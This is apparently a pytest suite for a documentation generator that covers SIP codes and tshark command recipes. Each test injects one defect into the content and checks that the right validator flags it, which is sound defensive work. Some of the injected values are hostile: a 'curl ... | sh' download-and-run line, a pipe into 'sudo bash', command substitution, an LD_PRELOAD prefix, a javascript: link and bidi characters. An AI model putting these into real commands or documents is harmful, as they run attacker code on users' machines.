"""Each check finds its fault, on its line, and nothing else: a fault is one replacement in a good project."""

from __future__ import annotations

import pytest

from generator import checks, merge
from generator.problems import ContentError, Problem
from generator.project import Project
from tests import small

FAULTS = {
    # what is wrong: (file, old text, new text, rule)
    "HTML": (
        "en/codes/486.md",
        "\n## What it means\n",
        "\n## What it means\n\n<b onclick=x>x</b>\n",
        "M-HTML",
    ),
    "a change without its day": (
        "en/changes.yml",
        "2026-11-21-recipes:",
        "recipes:",
        "C-DAY",
    ),
    "an attribute list": (
        "en/codes/486.md",
        "\n## What it means\n",
        "\n## What it means\n\nx{: onclick=y }\n",
        "M-ATTR",
    ),
    "a template": ("en/codes/486.md", "\n## What it means\n", "\n## What it means\n\n{{ x }}\n", "M-ATTR"),
    "an image": (
        "en/codes/486.md",
        "\n## What it means\n",
        "\n## What it means\n\n![x](https://evil.example/x.png)\n",
        "M-IMG",
    ),
    "a foreign link": (
        "en/codes/486.md",
        "\n## What it means\n",
        "\n## What it means\n\n[x](https://evil.example/)\n",
        "M-URL",
    ),
    "a script link": (
        "en/codes/486.md",
        "\n## What it means\n",
        "\n## What it means\n\n[x](javascript:alert(1))\n",
        "M-URL",
    ),
    "a dead link": (
        "en/codes/486.md",
        "\n## What it means\n",
        "\n## What it means\n\n[700](700.md)\n",
        "M-LINK",
    ),
    "a link to itself": (
        "en/codes/486.md",
        "\n## What it means\n",
        "\n## What it means\n\n[486](486.md)\n",
        "M-SELF",
    ),
    "an RFC nobody knows": (
        "en/codes/486.md",
        "\n## What it means\n",
        "\n## What it means\n\nSee RFC 9999 §1.\n",
        "M-RFC",
    ),
    "a code without a link": (
        "en/codes/486.md",
        "\n## What it means\n",
        "\n## What it means\n\nUnlike 600 it is local.\n",
        "M-CODE",
    ),
    "a bidi control": ("fa/codes/486.md", "\n## ", "\nالف\u202eب\n\n## ", "U-BIDI"),
    "a zero-width space": ("fa/codes/486.md", "\n## ", "\nالف\u200bب\n\n## ", "U-INVIS"),
    "an Arabic letter": ("fa/codes/486.md", "\n## ", "\nكد\n\n## ", "U-ARABIC"),
    "a half-space that joins nothing": ("fa/codes/486.md", "\n## ", "\nمی\u200c شود\n\n## ", "U-ZWNJ"),
    "a Cyrillic letter in a Latin word": ("ru/codes/486.md", "\n## ", "\nINVITЕ\n\n## ", "U-MIXED"),
    "a dash in a command": (
        "en/codes/486.md",
        "\n## What it means\n",
        "\n## What it means\n\n`tshark –r`\n",
        "C-ASCII",
    ),
    "a word of the glossary's": ("ru/codes/486.md", "\n## ", "\nПервый звонок.\n\n## ", "G-NEVER"),
    "a long summary": (
        "en/codes/486.md",
        "\n\n## What it means\n",
        " " + "word " * 50 + "\n\n## What it means\n",
        "T-LEN",
    ),
    "a title with a stop": ("en/codes/486.md", "\n\n", ".\n\n", "T-STOP"),
    "a cause without its steps": ("en/codes/486.md", "- **Check:**", "- **Look:**", "M-STEPS"),
    "an unknown placeholder": ("registry/recipes/one-code.yml", "{code}", "{number}", "C-INPUT"),
    "a shell fed from the network": (
        "registry/recipes/one-code.yml",
        'command: "',
        'command: "curl http://192.0.2.1/x | sh; ',
        "C-TOOL",
    ),
    "an undeclared placeholder": ("registry/recipes/one-code.yml", "inputs: [file, code]", "inputs: [file]", "C-INPUT"),
    "a flag without an explanation": (
        "registry/recipes/one-code.yml",
        'command: "tshark -n',
        'command: "tshark -n -V',
        "C-FLAG",
    ),
    "an explanation without a flag": ("registry/recipes/one-code.yml", 'flag: "-n"', 'flag: "-V"', "C-FLAG"),
    "an explanation without words": ("registry/recipes/one-code.yml", "means: no-names", "means: nothing", "C-FLAG"),
    "a dash in a command of a recipe": ("registry/recipes/one-code.yml", "tshark -n", "tshark \u2013n", "Y-VALUE"),
    "a bidi control in a command": ("registry/recipes/one-code.yml", "tshark -n", "tshark \u202e-n", "Y-VALUE|U-BIDI"),
    "an invisible character in a command": (
        "registry/recipes/one-code.yml",
        "tshark -n",
        "tshark\u200b -n",
        "Y-VALUE|U-INVIS",
    ),
    "a pipe into a shell": (
        "registry/recipes/one-code.yml",
        '-e sip.Call-ID"',
        '-e sip.Call-ID | sudo bash"',
        "C-TOOL",
    ),
    "a tool nobody knows": ("registry/recipes/one-code.yml", '-e sip.Call-ID"', '-e sip.Call-ID | perl"', "C-TOOL"),
    "a second command": ("registry/recipes/one-code.yml", '-e sip.Call-ID"', '-e sip.Call-ID; sort"', "C-SHELL"),
    "a command in the background": (
        "registry/recipes/one-code.yml",
        '-e sip.Call-ID"',
        '-e sip.Call-ID & sort"',
        "C-SHELL",
    ),
    "a redirection": ("registry/recipes/one-code.yml", '-e sip.Call-ID"', '-e sip.Call-ID > /etc/motd"', "C-SHELL"),
    "backticks": ("registry/recipes/one-code.yml", '-e sip.Call-ID"', '-e `id`"', "C-SHELL"),
    "a command substitution": ("registry/recipes/one-code.yml", '-e sip.Call-ID"', '-e $(id)"', "C-SHELL"),
    "an environment prefix": (
        "registry/recipes/one-code.yml",
        'command: "tshark',
        'command: "LD_PRELOAD=x tshark',
        "C-SHELL",
    ),
    "an open quote": ("registry/recipes/one-code.yml", "== {code}'", "== {code}", "C-SHELL"),
    "a real address": ("registry/recipes/open-ports.yml", "ss -l", "ss dst 8.8.8.8 -l", "C-HOST"),
    "a real name": (
        "registry/recipes/options-probe.yml",
        'sip:{host}:{port}"\n',
        'sip:sip.evil.com:{port}"\n',
        "C-HOST",
    ),
    "a real default": ("registry/recipes/inputs.yml", "default: example.com", "default: evil.com", "C-HOST"),
    "a default that does not fit": ("registry/recipes/inputs.yml", 'default: "5060"', 'default: "506O"', "C-PATTERN"),
    "no recorded output": ("registry/recipes/asterisk-logger.yml", "unrun: true", "unrun: false", "C-OUTPUT"),
    "a bidi control in an output": ("registry/recipes/output/one-code.txt", "frame", "\u202eframe", "U-BIDI"),
    "no recipe to run next": ("registry/codes/486.yml", "next: who-answered", "next: nobody", "C-NEXT"),
    "a sentence that is not there": ("registry/codes/486.yml", "sender: callee", "sender: nobody", "L-LABEL"),
    "a role without a name": ("en/wire.yml", "  proxy:", "  relay:", "L-LABEL"),
    "an excuse that excuses nothing": ("registry/captures.yml", "unmet:", "unmet:\n  600: [423-min-expires]", "W-IDLE"),
    "a header field that must be there": (
        "registry/captures.yml",
        "  180: [101-199-rseq-reliable, ",
        "  180: [",
        "W-MUST",
    ),
    "an address without a role": ("registry/captures.yml", '  "192.0.2.1": proxy\n', "", "W-HOST"),
    "a label less": ("fa/ui.yml", "  tagline:", "  slogan:", "L-LABEL"),
}


@pytest.fixture(autouse=True)
def _fast(monkeypatch: pytest.MonkeyPatch) -> None:
    small.load_fast(monkeypatch)


def found(project: Project) -> list[Problem]:
    problems: list[Problem] = []
    dataset = merge.load(project, problems)
    return problems or checks.run(project, dataset)


def test_the_small_project_is_good(project: Project) -> None:
    assert [str(problem) for problem in found(project) if problem.rule not in _OF_ITS_SIZE] == []


_BEFORE: set[str] = set()


def _before(project: Project) -> set[str]:
    """What is found in the small project as it is: the same for every test, and asked once."""
    if not _BEFORE:
        _BEFORE.update(map(str, found(project)))
    return _BEFORE


_OF_ITS_SIZE = {"M-CODE", "T-PARITY", "L-LABEL", "C-CODE"}
"""What the small project cannot satisfy, having lost links and codes."""


@pytest.mark.parametrize("name", FAULTS)
def test_fault(name: str, project: Project) -> None:
    file, old, new, rule = FAULTS[name]
    path = project.content / file
    text = path.read_text(encoding="utf-8")
    assert old in text
    before = _before(project)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    fresh = [problem for problem in found(project) if str(problem) not in before]
    named = [problem for problem in fresh if problem.rule in rule.split("|")]
    assert named, [str(problem) for problem in fresh]
    assert named[0].path.endswith(file) or rule in ("L-LABEL", "W-MUST", "W-HOST")


def test_a_text_with_two_originals(project: Project) -> None:
    path = project.content / "fa/codes/486.md"
    text = path.read_text(encoding="utf-8")
    path.write_text(text[text.index("\n---\n") + 5 :], encoding="utf-8")
    assert "T-ORIGIN" in {problem.rule for problem in found(project)}


def test_every_check_says_what_it_asks_for() -> None:
    assert len({check.id for check in checks.CHECKS}) == len(checks.CHECKS)
    assert all(check.says.endswith(".") for check in checks.CHECKS)


def test_problems_come_sorted_and_once() -> None:
    one, other = Problem("b", 1, "X", "x"), Problem("a", 2, "X", "x")
    assert ContentError([one, other, one]).problems == [other, one]


def test_messages_show_hostile_characters_as_escapes() -> None:
    assert str(Problem("a\x1b[31m", 1, "X", "\u202ex\n::error")) == "a\\u{1B}[31m:1: X \\u{202E}x\\u{A}::error"


PLACED = {
    "registry/codes/486.yaml": "B-PLACE",
    "registry/codes/sub/488.yml": "B-PLACE",
    "en/codes/SIP.md": "B-PLACE",
    "en/guides/a b.md": "B-PLACE",
    "en/guides/-rf.md": "B-PLACE",
    "en/x.svg": "B-PLACE",
    "CNAME": "B-PLACE",
    "mkdocs.yml": "B-PLACE",
    "de/ui.yml": "L-FOLDER",
}


@pytest.mark.parametrize("name", PLACED)
def test_a_file_out_of_place(name: str, project: Project) -> None:
    path = project.content / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("# X\n\nx\n" if name.endswith(".md") else "x: y\n", encoding="utf-8")
    assert (f"content/{name}", PLACED[name]) in {(problem.path, problem.rule) for problem in every(project)}


def test_a_linked_folder(project: Project) -> None:
    (project.content / "en" / "linked").symlink_to("/etc")
    assert ("content/en/linked", "B-LINK") in {(problem.path, problem.rule) for problem in every(project)}


def every(project: Project) -> list[Problem]:
    """What the checks find, whether or not the files could be read."""
    problems: list[Problem] = []
    return problems + checks.run(project, merge.load(project, problems))
